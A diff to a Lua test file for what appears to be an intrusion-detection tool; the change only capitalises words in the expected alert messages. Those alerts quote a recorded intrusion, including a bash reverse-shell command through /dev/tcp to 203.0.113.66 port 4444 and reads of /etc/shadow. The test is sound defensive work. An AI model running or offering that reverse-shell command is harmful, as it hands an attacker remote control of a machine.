@@ -8,8 +8,8 @@ local EXPECTED = {
   [[password-guessing medium: 5 failed passwords from 203.0.113.66 within 5 minutes, the last for alice]],
   [[web-shell critical: The web server's account www-data started a shell (pid N): sh -c getent hosts ; bash -c "exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1"]],
   [[web-shell critical: The web server's account www-data started a shell (pid N): bash -c exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1]],
-  [[interpreter-connect high: a service running as www-data connected to 203.0.113.66 port 4444 with /usr/bin/bash: bash -c exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1 (pid N)]],
-  [[secrets-read medium: a service running as www-data was refused /etc/shadow with /usr/bin/cat (pid N)]],
+  [[interpreter-connect high: A service running as www-data connected to 203.0.113.66 port 4444 with /usr/bin/bash: bash -c exec bash </dev/tcp/203.0.113.66/4444 >&1 2>&1 (pid N)]],
+  [[secrets-read medium: A service running as www-data was refused /etc/shadow with /usr/bin/cat (pid N)]],
   [[password-guessing critical: alice is in from 203.0.113.66 after 14 failed passwords within 5 minutes]],
   [[root-shell medium: alice has a root shell: /usr/bin/bash on pts1 (pid N)]],
   [[secrets-read high: alice as root opened /etc/shadow with /usr/bin/cat (pid N)]],
@@ -43,6 +43,6 @@ describe('the recorded intrusion', function()
     local alerts = test.replay(raw, { policies = scenes.policies() }).alerts
     assert.equal(#EXPECTED, #alerts)
     assert.is_truthy(alerts[2].message:find("The web server's account 33 started a shell", 1, true))
-    assert.is_truthy(alerts[7].message:find('user 1000 has a root shell', 1, true))
+    assert.is_truthy(alerts[7].message:find('User 1000 has a root shell', 1, true))
   end)
 end)
